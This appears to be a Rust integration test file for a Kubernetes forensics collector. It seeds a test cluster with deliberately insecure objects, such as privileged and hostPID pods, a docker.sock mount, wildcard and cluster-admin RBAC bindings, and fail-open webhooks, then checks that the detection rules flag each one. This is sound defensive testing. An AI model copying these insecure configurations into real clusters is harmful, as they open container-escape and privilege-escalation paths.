//! `kforensic collect` against the real test cluster: seeded bad objects and clean look-alikes,
//! every rule fires exactly on its bad objects; secrets stay metadata unless asked; pages.

use crate::support::{
    self,
    pod::{BUSYBOX, Pod},
};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const PINNED: &str = "test.local/busybox@sha256:1111111111111111111111111111111111111111111111111111111111111111";

fn read_ndjson(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    text.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{}: bad line {l:?}: {e}", path.display()))).collect()
}

/// Deletes the cluster-scoped objects a test created (namespaces go with their guards).
struct ClusterObjects {
    env: &'static support::TestEnv,
    objects: Vec<String>,
}
impl Drop for ClusterObjects {
    fn drop(&mut self) {
        if std::env::var_os("KF_KEEP_NAMESPACES").is_none() && !self.objects.is_empty() {
            let mut args = vec!["delete", "--ignore-not-found", "--wait=false"];
            args.extend(self.objects.iter().map(String::as_str));
            let _ = self.env.kubectl_raw(&args, None);
        }
    }
}

/// A pod that never runs: no scheduler picks it up, so it needs no node and no image.
fn never_runs(ns: &str, name: &str) -> Pod {
    never_runs_with_image(ns, name, PINNED)
}
fn never_runs_with_image(ns: &str, name: &str, image: &str) -> Pod {
    Pod::new(ns, name).spec("{schedulerName: kforensic-test-none, automountServiceAccountToken: false}").container("c", image)
}

fn cronjob_version(env: &support::TestEnv) -> &'static str {
    let v1 = env.kubectl_raw(&["get", "--raw", "/apis/batch/v1"], None);
    if String::from_utf8_lossy(&v1.stdout).contains("\"cronjobs\"") { "batch/v1" } else { "batch/v1beta1" }
}

/// `privileged`: the template shares the host PID namespace.
fn cronjob(ns: &str, name: &str, version: &str, privileged: bool) -> String {
    format!(
        "---
apiVersion: {version}
kind: CronJob
metadata: {{name: {name}, namespace: {ns}}}
spec:
  schedule: \"0 3 * * *\"
  suspend: true
  jobTemplate:
    spec:
      template:
        spec:
          schedulerName: kforensic-test-none
          restartPolicy: Never
          hostPID: {privileged}
          containers:
          - name: c
            image: \"{PINNED}\"
"
    )
}

/// Whether the API server admits privileged containers (`--allow-privileged`); the test
/// cluster's 1.20 apiserver may not.
fn privileged_allowed(env: &support::TestEnv, ns: &str) -> bool {
    let probe = never_runs(ns, "probe-privileged").with("securityContext: {privileged: true}").yaml();
    let out = env.kubectl_raw(&["apply", "--dry-run=server", "-f", "-"], Some(&probe));
    out.status.success()
}

fn wait_for_token(env: &support::TestEnv, ns: &str, sa: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let out = env.kubectl_raw(&["-n", ns, "get", "serviceaccount", sa, "-o", "jsonpath={.secrets[0].name}"], None);
        if out.status.success() && !out.stdout.is_empty() {
            return;
        }
        assert!(Instant::now() < deadline, "service account {ns}/{sa} got no token secret");
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn bundle_dir(dest: &Path, case: &str) -> PathBuf {
    dest.join(case)
}

#[test]
fn collect_rules_fire_exactly_on_seeded_bad_objects() {
    let Some(env) = support::require("collect_rules_fire_exactly_on_seeded_bad_objects", support::CLUSTER) else { return };
    let a = env.namespace("col");
    let b = env.namespace("colnp");
    let (na, nb) = (a.name.as_str(), b.name.as_str());
    let p = na; // unique prefix for cluster-scoped objects
    let cj_version = cronjob_version(env);
    let mut cluster = ClusterObjects { env, objects: Vec::new() };

    // --- created first: the "old" cronjobs (the window given to --since excludes them)
    let mut yaml = String::new();
    yaml += &cronjob(na, "cj-old-clean", cj_version, false);
    yaml += &cronjob(na, "cj-old-priv", cj_version, true);
    let privileged_ok = privileged_allowed(env, na);
    if !privileged_ok {
        eprintln!(
            "NOTE collect_rules_fire_exactly_on_seeded_bad_objects: this API server refuses privileged containers (--allow-privileged=false): KF-POD-001 is checked by the unit tests only"
        );
    }
    env.apply(&yaml);
    let old_created = Instant::now();

    // --- service accounts (the token controller must mint a token before a pod may mount it)
    env.apply(&format!(
        "---
apiVersion: v1
kind: ServiceAccount
metadata: {{name: priv-sa, namespace: {na}}}
---
apiVersion: v1
kind: ServiceAccount
metadata: {{name: quiet-sa, namespace: {na}}}
automountServiceAccountToken: false
---
apiVersion: v1
kind: ServiceAccount
metadata: {{name: rbac-sa, namespace: {na}}}
"
    ));
    wait_for_token(env, na, "priv-sa");

    // --- pods: one per rule, and clean look-alikes
    let secret_value = format!("kf-secret-value-{}", std::process::id());
    let mut yaml = String::new();
    if privileged_ok {
        yaml += &never_runs(na, "p-privileged").with("securityContext: {privileged: true}").yaml();
    }
    yaml += &never_runs(na, "p-clean")
        .spec("volumes: [{name: h, hostPath: {path: /etc}}, {name: v, hostPath: {path: /var/log}}]")
        .with("securityContext: {privileged: false, runAsUser: 1000, allowPrivilegeEscalation: false, capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}}")
        .with("volumeMounts: [{name: h, mountPath: /h, readOnly: true}, {name: v, mountPath: /v, readOnly: true}]")
        .yaml();
    yaml += &never_runs(na, "p-hostpid").spec("hostPID: true").yaml();
    yaml += &never_runs(na, "p-hostipc").spec("hostIPC: true").yaml();
    yaml += &never_runs(na, "p-hostnet").spec("hostNetwork: true").yaml();
    yaml += &never_runs(na, "p-caps").with("securityContext: {capabilities: {add: [SYS_ADMIN]}}").yaml();
    yaml += &never_runs(na, "p-ape").with("securityContext: {allowPrivilegeEscalation: true}").yaml();
    yaml += &never_runs(na, "p-root").spec("securityContext: {runAsUser: 0}").yaml();
    yaml += &never_runs(na, "p-hostpath")
        .spec("volumes: [{name: h, hostPath: {path: /var/log/kforensic-test}}]")
        .with("volumeMounts: [{name: h, mountPath: /h}]")
        .yaml();
    yaml += &never_runs(na, "p-hostpath-etc")
        .spec("volumes: [{name: h, hostPath: {path: /etc}}]")
        .with("volumeMounts: [{name: h, mountPath: /h}]")
        .yaml();
    yaml += &never_runs(na, "p-docker-sock")
        .spec("volumes: [{name: h, hostPath: {path: /var/run/docker.sock}}]")
        .with("volumeMounts: [{name: h, mountPath: /var/run/docker.sock}]")
        .yaml();
    yaml += &never_runs_with_image(na, "p-tag", "test.local/busybox:1").yaml();
    yaml += &never_runs_with_image(na, "p-latest", "test.local/busybox:latest").yaml();
    // privileged (hostPID) with the token of priv-sa mounted (pod and account leave automount unset)
    let never_scheduled = "schedulerName: kforensic-test-none";
    yaml +=
        &Pod::new(na, "p-sa-priv").spec(never_scheduled).spec("{serviceAccountName: priv-sa, hostPID: true}").container("c", PINNED).yaml();
    // privileged (hostPID), but quiet-sa does not automount its token
    yaml += &Pod::new(na, "p-sa-quiet")
        .spec(never_scheduled)
        .spec("{serviceAccountName: quiet-sa, hostPID: true}")
        .container("c", PINNED)
        .yaml();
    // more pods than one page holds (--page-size 4 below)
    for i in 0..6 {
        yaml += &never_runs(nb, &format!("p-filler-{i}")).yaml();
    }
    // a job (its pod never runs either), a secret applied with kubectl (its value then sits
    // in the last-applied annotation too), a network policy in the second namespace only
    yaml += &format!(
        "---
apiVersion: batch/v1
kind: Job
metadata: {{name: job-1, namespace: {na}}}
spec:
  template:
    spec:
      schedulerName: kforensic-test-none
      restartPolicy: Never
      containers: [{{name: c, image: \"{PINNED}\"}}]
---
apiVersion: v1
kind: Secret
metadata: {{name: col-secret, namespace: {na}}}
type: Opaque
stringData: {{password: {secret_value}}}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {{name: deny-all, namespace: {nb}}}
spec: {{podSelector: {{}}, policyTypes: [Ingress]}}
"
    );

    // --- RBAC: namespaced in the first namespace, cluster-scoped with the unique prefix
    let rbac = "rbac.authorization.k8s.io/v1";
    let sa_subject = format!("[{{kind: ServiceAccount, name: rbac-sa, namespace: {na}}}]");
    let role = |name: &str, rules: &str| {
        format!("---\napiVersion: {rbac}\nkind: Role\nmetadata: {{name: {name}, namespace: {na}}}\nrules: {rules}\n")
    };
    let crole =
        |name: &str, rules: &str| format!("---\napiVersion: {rbac}\nkind: ClusterRole\nmetadata: {{name: {p}-{name}}}\nrules: {rules}\n");
    let rb = |name: &str, role: &str, subjects: &str| {
        format!(
            "---\napiVersion: {rbac}\nkind: RoleBinding\nmetadata: {{name: {name}, namespace: {na}}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: {role}}}\nsubjects: {subjects}\n"
        )
    };
    let crb = |name: &str, role: &str, subjects: &str| {
        format!(
            "---\napiVersion: {rbac}\nkind: ClusterRoleBinding\nmetadata: {{name: {p}-{name}}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {role}}}\nsubjects: {subjects}\n"
        )
    };
    yaml += &crole("wild", "[{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]");
    yaml += &crb("wild-sa", &format!("{p}-wild"), &sa_subject);
    yaml += &crb("admin-user", "cluster-admin", &format!("[{{kind: User, name: {p}-alice, apiGroup: rbac.authorization.k8s.io}}]"));
    yaml += &role("secret-reader", "[{apiGroups: [''], resources: [secrets], verbs: [get, list]}]");
    yaml += &role("secret-writer", "[{apiGroups: [''], resources: [secrets], verbs: [create, delete]}]");
    yaml += &role("cm-reader", "[{apiGroups: [''], resources: [configmaps], verbs: [get]}]");
    yaml += &role("exec", "[{apiGroups: [''], resources: [pods/exec], verbs: [create]}]");
    yaml += &role("pod-reader", "[{apiGroups: [''], resources: [pods], verbs: [get, list]}]");
    yaml += &role("impersonator", "[{apiGroups: [''], resources: [serviceaccounts], verbs: [impersonate]}]");
    yaml += &rb("rb-secrets", "secret-reader", &sa_subject);
    yaml += &rb("rb-secrets-write", "secret-writer", &sa_subject);
    yaml += &rb(
        "rb-authenticated-secrets",
        "secret-reader",
        "[{kind: Group, name: 'system:authenticated', apiGroup: rbac.authorization.k8s.io}]",
    );
    yaml += &rb("rb-authenticated-cm", "cm-reader", "[{kind: Group, name: 'system:authenticated', apiGroup: rbac.authorization.k8s.io}]");
    yaml += &rb("rb-exec", "exec", &sa_subject);
    yaml += &rb("rb-pod-reader", "pod-reader", &sa_subject);
    yaml += &rb("rb-impersonate", "impersonator", &sa_subject);
    yaml += &crole("nodes-proxy", "[{apiGroups: [''], resources: [nodes/proxy], verbs: [get]}]");
    yaml += &crole("nodes-read", "[{apiGroups: [''], resources: [nodes], verbs: [get, list]}]");
    yaml += &crb("nodes-proxy", &format!("{p}-nodes-proxy"), &sa_subject);
    yaml += &crb("nodes-read", &format!("{p}-nodes-read"), &sa_subject);

    // --- webhooks: their selectors match no namespace, so they never run
    let wh = |kind: &str, name: &str, policy: &str, groups: &str, resources: &str, client: &str| {
        format!(
            "---
apiVersion: admissionregistration.k8s.io/v1
kind: {kind}
metadata: {{name: {p}-{name}}}
webhooks:
- name: {name}.kforensic.test
  admissionReviewVersions: [v1]
  sideEffects: None
  failurePolicy: {policy}
  namespaceSelector: {{matchLabels: {{kforensic.test/never: \"yes\"}}}}
  clientConfig: {client}
  rules: [{{apiGroups: {groups}, apiVersions: ['*'], operations: [CREATE], resources: {resources}}}]
"
        )
    };
    let svc_a = format!("{{service: {{namespace: {na}, name: hook}}}}");
    let svc_ks = "{service: {namespace: kube-system, name: hook}}";
    yaml += &wh("MutatingWebhookConfiguration", "wh-pods-ignore", "Ignore", "['']", "[pods]", &svc_a);
    yaml += &wh("MutatingWebhookConfiguration", "wh-pods-fail", "Fail", "['']", "[pods]", &svc_a);
    yaml += &wh("MutatingWebhookConfiguration", "wh-cm-ignore", "Ignore", "['']", "[configmaps]", &svc_a);
    yaml += &wh(
        "ValidatingWebhookConfiguration",
        "vwh-rbac-ignore",
        "Ignore",
        "[rbac.authorization.k8s.io]",
        "[clusterrolebindings]",
        "{url: 'https://127.0.0.1:1/hook'}",
    );
    yaml += &wh("ValidatingWebhookConfiguration", "vwh-pods-kube-system", "Ignore", "['']", "[pods]", svc_ks);
    for o in [
        "clusterrole/{p}-wild",
        "clusterrole/{p}-nodes-proxy",
        "clusterrole/{p}-nodes-read",
        "clusterrolebinding/{p}-wild-sa",
        "clusterrolebinding/{p}-admin-user",
        "clusterrolebinding/{p}-nodes-proxy",
        "clusterrolebinding/{p}-nodes-read",
        "mutatingwebhookconfiguration/{p}-wh-pods-ignore",
        "mutatingwebhookconfiguration/{p}-wh-pods-fail",
        "mutatingwebhookconfiguration/{p}-wh-cm-ignore",
        "validatingwebhookconfiguration/{p}-vwh-rbac-ignore",
        "validatingwebhookconfiguration/{p}-vwh-pods-kube-system",
    ] {
        cluster.objects.push(o.replace("{p}", p));
    }
    env.apply(&yaml);

    // the job controller creates the job's pod
    let deadline = Instant::now() + Duration::from_secs(30);
    while env.kubectl(&["-n", na, "get", "pods", "-l", "job-name=job-1", "-o", "name"]).trim().is_empty() {
        assert!(Instant::now() < deadline, "the job's pod was never created");
        std::thread::sleep(Duration::from_millis(200));
    }

    // --- created last: the recent cronjob
    let since = 2;
    if let Some(rest) = Duration::from_secs(since + 2).checked_sub(old_created.elapsed()) {
        std::thread::sleep(rest);
    }
    env.apply(&cronjob(na, "cj-new", cj_version, false));

    let dest = tempfile::tempdir().unwrap();
    let since_arg = format!("{since}s");
    // two namespaces, -n repeated (the comma-separated form is the same list)
    let out = env.kforensic(&[
        "collect",
        "-n",
        na,
        "-n",
        nb,
        "--since",
        &since_arg,
        "--dest",
        dest.path().to_str().unwrap(),
        "--case-id",
        "col-rules",
        "--page-size",
        "4",
        "-o",
        "json",
    ]);
    assert_eq!(out.status.code(), Some(0), "collect failed:\n{}\n{}", support::stdout(&out), support::stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).expect("-o json prints one JSON document");
    assert_eq!(report["complete"], true);
    let triage = bundle_dir(dest.path(), "col-rules").join("triage");

    // --- findings: exactly the expected rules on exactly the expected objects
    let mut expected: BTreeMap<String, Vec<&str>> = BTreeMap::new();
    let mut want = |key: String, ids: &[&'static str]| expected.insert(key, ids.to_vec());
    if privileged_ok {
        want(format!("Pod/{na}/p-privileged"), &["KF-POD-001"]);
    }
    for (pod, ids) in [
        ("p-hostpid", &["KF-POD-002"][..]),
        ("p-hostipc", &["KF-POD-003"]),
        ("p-hostnet", &["KF-POD-004"]),
        ("p-caps", &["KF-POD-005"]),
        ("p-ape", &["KF-POD-006"]),
        ("p-root", &["KF-POD-007"]),
        ("p-hostpath", &["KF-POD-008"]),
        ("p-hostpath-etc", &["KF-POD-009"]),
        ("p-docker-sock", &["KF-POD-009"]),
        ("p-tag", &["KF-POD-010"]),
        ("p-latest", &["KF-POD-011"]),
        ("p-sa-priv", &["KF-POD-002"]),
        ("p-sa-quiet", &["KF-POD-002"]),
    ] {
        want(format!("Pod/{na}/{pod}"), ids);
    }
    want(format!("ServiceAccount/{na}/priv-sa"), &["KF-SA-001"]);
    want(format!("ClusterRoleBinding/-/{p}-wild-sa"), &["KF-RBAC-001"]);
    want(format!("ClusterRoleBinding/-/{p}-admin-user"), &["KF-RBAC-007"]);
    want(format!("RoleBinding/{na}/rb-authenticated-secrets"), &["KF-RBAC-002"]);
    want(format!("RoleBinding/{na}/rb-secrets"), &["KF-RBAC-003"]);
    want(format!("RoleBinding/{na}/rb-exec"), &["KF-RBAC-004"]);
    want(format!("ClusterRoleBinding/-/{p}-nodes-proxy"), &["KF-RBAC-005"]);
    want(format!("RoleBinding/{na}/rb-impersonate"), &["KF-RBAC-006"]);
    want(format!("MutatingWebhookConfiguration/-/{p}-wh-pods-ignore"), &["KF-WH-001"]);
    want(format!("ValidatingWebhookConfiguration/-/{p}-vwh-rbac-ignore"), &["KF-WH-001"]);
    want(format!("CronJob/{na}/cj-new"), &["KF-CRON-001"]);
    want(format!("CronJob/{na}/cj-old-priv"), &["KF-CRON-002"]);
    want(format!("Namespace/-/{na}"), &["KF-NS-001"]);

    let findings = read_ndjson(&triage.join("findings.ndjson"));
    let mut got: BTreeMap<String, Vec<&str>> = BTreeMap::new();
    for f in &findings {
        let ns = f["namespace"].as_str();
        let name = f["name"].as_str().unwrap();
        let ours = ns == Some(na) || ns == Some(nb) || name.starts_with(&format!("{p}-")) || name == na || name == nb;
        if ours {
            let key = format!("{}/{}/{}", f["kind"].as_str().unwrap(), ns.unwrap_or("-"), name);
            got.entry(key).or_default().push(f["id"].as_str().unwrap());
        }
        for field in ["id", "severity", "kind", "apiVersion", "name", "reason"] {
            assert!(f[field].is_string(), "finding without {field}: {f}");
        }
    }
    for v in got.values_mut() {
        v.sort();
    }
    assert_eq!(got, expected, "findings differ from the seeded bad objects");
    // severities: worst first in the file and in the report
    let rank = |s: &str| ["critical", "high", "medium", "low"].iter().position(|x| *x == s).unwrap();
    let ranks: Vec<usize> = findings.iter().map(|f| rank(f["severity"].as_str().unwrap())).collect();
    assert!(ranks.windows(2).all(|w| w[0] <= w[1]), "findings.ndjson is not sorted by severity");
    assert_eq!(report["findings"].as_array().unwrap().len(), findings.len());
    let sev = |k: &str| findings.iter().find(|f| f["name"] == k).map(|f| f["severity"].as_str().unwrap().to_string());
    assert_eq!(sev("p-hostpath-etc").as_deref(), Some("critical"));
    assert_eq!(sev("p-hostpath").as_deref(), Some("high"));

    // --- sources: every object once, with its identity; pages were exercised
    let pods = read_ndjson(&triage.join("pods.ndjson"));
    let uids: BTreeSet<&str> = pods.iter().map(|p| p["uid"].as_str().unwrap()).collect();
    let seeded = if privileged_ok { 15 } else { 14 };
    assert_eq!(pods.len(), seeded + 6 + 1, "pods: the seeded ones, 6 fillers and the job's pod");
    assert_eq!(uids.len(), pods.len(), "a pod appears twice (paging)");
    for p in &pods {
        assert_eq!(p["kind"], "Pod");
        assert_eq!(p["apiVersion"], "v1");
        assert_eq!(p["object"]["metadata"]["uid"], p["uid"]);
    }
    let names = |file: &str| -> BTreeSet<String> {
        read_ndjson(&triage.join(file)).iter().map(|o| format!("{}/{}", o["kind"].as_str().unwrap(), o["name"].as_str().unwrap())).collect()
    };
    assert!(names("cronjobs.ndjson").contains("CronJob/cj-new"));
    let cj = read_ndjson(&triage.join("cronjobs.ndjson"));
    assert!(cj.iter().all(|c| c["apiVersion"] == cj_version), "cronjobs carry the served version {cj_version}");
    assert!(names("jobs.ndjson").contains("Job/job-1"));
    assert!(names("serviceaccounts.ndjson").contains("ServiceAccount/quiet-sa"));
    assert!(names("networkpolicies.ndjson").contains("NetworkPolicy/deny-all"));
    assert!(names("networkpolicies.ndjson").contains(&format!("Namespace/{na}")));
    assert!(!names("networkpolicies.ndjson").contains(&format!("Namespace/{nb}")));
    assert!(names("roles.ndjson").contains("Role/exec"));
    assert!(names("rolebindings.ndjson").contains("RoleBinding/rb-exec"));
    assert!(names("clusterroles.ndjson").contains(&format!("ClusterRole/{p}-wild")));
    assert!(names("clusterrolebindings.ndjson").contains(&format!("ClusterRoleBinding/{p}-wild-sa")));
    assert!(names("webhooks.ndjson").contains(&format!("MutatingWebhookConfiguration/{p}-wh-pods-fail")));
    assert!(names("webhooks.ndjson").contains(&format!("ValidatingWebhookConfiguration/{p}-vwh-pods-kube-system")));
    assert!(names("nodes.ndjson").contains("Node/127.0.0.1"));
    let images = read_ndjson(&triage.join("images.ndjson"));
    let pinned = images.iter().find(|i| i["image"] == PINNED).expect("the pinned image is listed");
    assert_eq!(pinned["digest"], "sha256:1111111111111111111111111111111111111111111111111111111111111111");
    let objects = |s: &str| report["sources"].as_array().unwrap().iter().find(|x| x["source"] == s).unwrap()["objects"].as_u64().unwrap();
    assert_eq!(objects("pods"), pods.len() as u64);

    // --- secrets: metadata only, the value nowhere in the bundle
    let secrets = read_ndjson(&triage.join("secrets.ndjson"));
    let s = secrets.iter().find(|s| s["name"] == "col-secret").expect("col-secret listed");
    assert_eq!(s["keys"], serde_json::json!(["password"]));
    assert_eq!(s["type"], "Opaque");
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode(&secret_value);
    for entry in std::fs::read_dir(&triage).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!text.contains(&secret_value) && !text.contains(&b64), "the secret's value leaked into the bundle");
    }

    // --- asked for: the values are there
    let out = env.kforensic(&[
        "collect",
        "-n",
        na,
        "--sources",
        "secrets",
        "--include-secret-values",
        "--dest",
        dest.path().to_str().unwrap(),
        "--case-id",
        "col-values",
        "-q",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
    let secrets = read_ndjson(&bundle_dir(dest.path(), "col-values").join("triage/secrets.ndjson"));
    let s = secrets.iter().find(|s| s["name"] == "col-secret").unwrap();
    assert_eq!(s["object"]["data"]["password"], b64.as_str());
    // only the asked-for source (and the findings) were written
    let files: BTreeSet<String> = std::fs::read_dir(bundle_dir(dest.path(), "col-values").join("triage"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(files, BTreeSet::from(["secrets.ndjson".to_string(), "findings.ndjson".to_string()]));
    drop(cluster);
}

#[test]
fn collect_logs_current_and_previous() {
    let Some(env) = support::require("collect_logs_current_and_previous", support::CLUSTER) else { return };
    let ns = env.namespace("collogs");
    let image = env.var("KF_BUSYBOX_IMAGE");
    let talker = Pod::new(&ns.name, "talker")
        .label("app", "talk")
        .spec("automountServiceAccountToken: false")
        .grace(1)
        .container("c", image)
        .sh("echo kf-log-line-one; echo kf-log-line-two; sleep 100000");
    // first run fails, the restarted one stays up: its previous instance is then the only
    // dead one, which the kubelet keeps (it removes older dead instances)
    let crasher = Pod::new(&ns.name, "crasher")
        .label("app", "crash")
        .spec("automountServiceAccountToken: false")
        .grace(1)
        .spec("volumes: [{name: m, emptyDir: {}}]")
        .container("c", image)
        .with("volumeMounts: [{name: m, mountPath: /m}]")
        .sh("if [ -f /m/ran ]; then echo kf-second-run; sleep 100000; else touch /m/ran; echo kf-first-run; exit 3; fi");
    env.apply(&(talker.yaml() + &crasher.yaml()));
    env.wait_running(&ns.name, "talker", 60);
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let out = env.kubectl(&[
            "-n",
            &ns.name,
            "get",
            "pod",
            "crasher",
            "-o",
            "jsonpath={.status.containerStatuses[0].restartCount} {.status.containerStatuses[0].state.running.startedAt}",
        ]);
        let mut it = out.split_whitespace();
        if it.next().and_then(|r| r.parse::<u32>().ok()).unwrap_or(0) >= 1 && it.next().is_some() {
            break;
        }
        assert!(Instant::now() < deadline, "crasher never restarted into its running second run: {out}");
        std::thread::sleep(Duration::from_millis(300));
    }

    let dest = tempfile::tempdir().unwrap();
    let out = env.kforensic(&[
        "collect",
        "-n",
        &ns.name,
        "--sources",
        "logs,pods,images",
        "--dest",
        dest.path().to_str().unwrap(),
        "--case-id",
        "logs",
        "-q",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}\n{}", support::stdout(&out), support::stderr(&out));
    let lines = read_ndjson(&dest.path().join("logs/triage/logs.ndjson"));
    let talker: Vec<&Value> = lines.iter().filter(|l| l["name"] == "talker").collect();
    let texts: Vec<&str> = talker.iter().filter_map(|l| l["line"].as_str()).collect();
    assert_eq!(texts, vec!["kf-log-line-one", "kf-log-line-two"], "talker's log, in order");
    for l in &talker {
        assert_eq!(l["kind"], "Pod");
        assert_eq!(l["container"], "c");
        assert_eq!(l["previous"], false);
        assert!(l["uid"].is_string());
        assert!(l["time"].as_str().is_some_and(|t| t.ends_with('Z')), "timestamp split off: {l}");
    }
    let crasher = |previous: bool| -> Vec<&str> {
        lines.iter().filter(|l| l["name"] == "crasher" && l["previous"] == previous).filter_map(|l| l["line"].as_str()).collect()
    };
    assert_eq!(crasher(true), vec!["kf-first-run"], "the restarted container's previous log: {lines:?}");
    assert_eq!(crasher(false), vec!["kf-second-run"], "the running instance's log: {lines:?}");

    // the running image, with the digest the runtime reports
    let images = read_ndjson(&dest.path().join("logs/triage/images.ndjson"));
    let img = images.iter().find(|i| i["image"] == image).expect("the running image is listed");
    let image_id = img["imageID"].as_str().expect("imageID from containerStatuses");
    assert!(img["digest"].as_str().is_some_and(|d| d.starts_with("sha256:") && image_id.ends_with(d)), "{img}");
    assert_eq!(img["containers"], 2);
    let refs: BTreeSet<&str> = img["refs"].as_array().unwrap().iter().map(|r| r["pod"].as_str().unwrap()).collect();
    assert_eq!(refs, BTreeSet::from(["talker", "crasher"]));

    // -l narrows pods and their logs
    let out = env.kforensic(&[
        "collect",
        "-n",
        &ns.name,
        "-l",
        "app=talk",
        "--sources",
        "logs,pods",
        "--dest",
        dest.path().to_str().unwrap(),
        "--case-id",
        "logs-sel",
        "-q",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
    let lines = read_ndjson(&dest.path().join("logs-sel/triage/logs.ndjson"));
    assert!(!lines.is_empty() && lines.iter().all(|l| l["name"] == "talker"));
    let pods = read_ndjson(&dest.path().join("logs-sel/triage/pods.ndjson"));
    assert_eq!(pods.len(), 1);
}

#[test]
fn collect_as_a_restricted_user_is_partial_and_says_what_failed() {
    let Some(env) = support::require("collect_as_a_restricted_user_is_partial_and_says_what_failed", support::CLUSTER) else { return };
    let dest = tempfile::tempdir().unwrap();
    let out = env.kforensic_as(
        env.view_kubeconfig(),
        &[
            "collect",
            "-n",
            "kft-view",
            "--sources",
            "pods,secrets,events",
            "--dest",
            dest.path().to_str().unwrap(),
            "--case-id",
            "view",
            "-o",
            "json",
        ],
    );
    assert_eq!(out.status.code(), Some(3), "partial evidence exits 3:\n{}\n{}", support::stdout(&out), support::stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["complete"], false);
    let src = |s: &str| report["sources"].as_array().unwrap().iter().find(|x| x["source"] == s).unwrap().clone();
    let err = src("secrets")["error"].as_str().unwrap_or_default().to_string();
    assert!(err.contains("permission denied") && err.contains("secrets"), "{err}");
    assert!(src("pods")["error"].is_null() && src("events")["error"].is_null());
    assert!(dest.path().join("view/triage/pods.ndjson").exists());
    assert!(!dest.path().join("view/triage/secrets.ndjson").exists(), "a source refused from the start leaves no file");
}

#[test]
fn collect_refuses_what_it_cannot_do() {
    let out = support::kforensic(&["collect", "--image", "x"]);
    assert_eq!(out.status.code(), Some(2), "--image goes with --shell-history");
    assert!(support::stderr(&out).contains("--shell-history"), "{}", support::stderr(&out));
    let out = support::kforensic(&["collect", "-A", "-n", "x"]);
    assert_eq!(out.status.code(), Some(2));
    let out = support::kforensic(&["collect", "--sources", "pods,bogus"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(support::stderr(&out).contains("bogus"));
}

#[test]
fn collect_runs_complete_with_the_shipped_read_only_role() {
    let Some(env) = support::require("collect_runs_complete_with_the_shipped_read_only_role", support::CLUSTER) else { return };
    let ns = env.namespace("colrbac");
    let n = ns.name.as_str();
    // the shipped role under a unique name, bound to a service account of this test
    let role = std::fs::read_to_string(support::repo_root().join("deploy/rbac-collect.yaml")).unwrap();
    assert!(role.contains("name: kforensic-collect\n"));
    let role = role.replace("name: kforensic-collect\n", &format!("name: {n}-collect\n"));
    let _cluster = ClusterObjects { env, objects: vec![format!("clusterrole/{n}-collect"), format!("clusterrolebinding/{n}-collect")] };
    env.apply(&role);
    env.apply(&format!(
        "---
apiVersion: v1
kind: ServiceAccount
metadata: {{name: responder, namespace: {n}}}
---
apiVersion: v1
kind: Secret
metadata: {{name: responder-token, namespace: {n}, annotations: {{kubernetes.io/service-account.name: responder}}}}
type: kubernetes.io/service-account-token
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {{name: {n}-collect}}
roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {n}-collect}}
subjects: [{{kind: ServiceAccount, name: responder, namespace: {n}}}]
"
    ));
    // a running pod, so that logs are really fetched (pods/log)
    let runner = Pod::new(n, "runner")
        .spec("automountServiceAccountToken: false")
        .grace(1)
        .container("c", env.var("KF_BUSYBOX_IMAGE"))
        .sh("echo kf-ro-log; sleep 100000");
    env.apply(&runner.yaml());
    env.wait_running(n, "runner", 60);
    let deadline = Instant::now() + Duration::from_secs(30);
    let token = loop {
        let out = env.kubectl_raw(&["-n", n, "get", "secret", "responder-token", "-o", "jsonpath={.data.token}"], None);
        if out.status.success() && !out.stdout.is_empty() {
            use base64::Engine;
            let t = base64::engine::general_purpose::STANDARD.decode(&out.stdout).expect("token is base64");
            break String::from_utf8(t).unwrap();
        }
        assert!(Instant::now() < deadline, "the token controller filled no token");
        std::thread::sleep(Duration::from_millis(200));
    };
    let server = env.kubectl(&["config", "view", "--minify", "-o", "jsonpath={.clusters[0].cluster.server}"]);
    let dir = tempfile::tempdir().unwrap();
    let kc = dir.path().join("kubeconfig");
    std::fs::write(&kc, format!(
        "apiVersion: v1\nkind: Config\nclusters: [{{name: t, cluster: {{server: \"{server}\", insecure-skip-tls-verify: true}}}}]\n\
         users: [{{name: r, user: {{token: \"{token}\"}}}}]\ncontexts: [{{name: c, context: {{cluster: t, user: r}}}}]\ncurrent-context: c\n"
    )).unwrap();
    let out =
        env.kforensic_as(kc.to_str().unwrap(), &["collect", "-A", "--dest", dir.path().to_str().unwrap(), "--case-id", "ro", "-o", "json"]);
    let report: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    assert_eq!(out.status.code(), Some(0), "collect -A with the shipped role:\n{}\n{}", support::stdout(&out), support::stderr(&out));
    assert_eq!(report["complete"], true);
    assert_eq!(report["sources"].as_array().unwrap().len(), 15, "every source ran");
    let logs = read_ndjson(&dir.path().join("ro/triage/logs.ndjson"));
    assert!(logs.iter().any(|l| l["name"] == "runner" && l["line"] == "kf-ro-log"), "the runner's log was read");
}

#[test]
fn shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high() {
    let Some(env) = support::require("shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high", support::CLUSTER)
    else {
        return;
    };
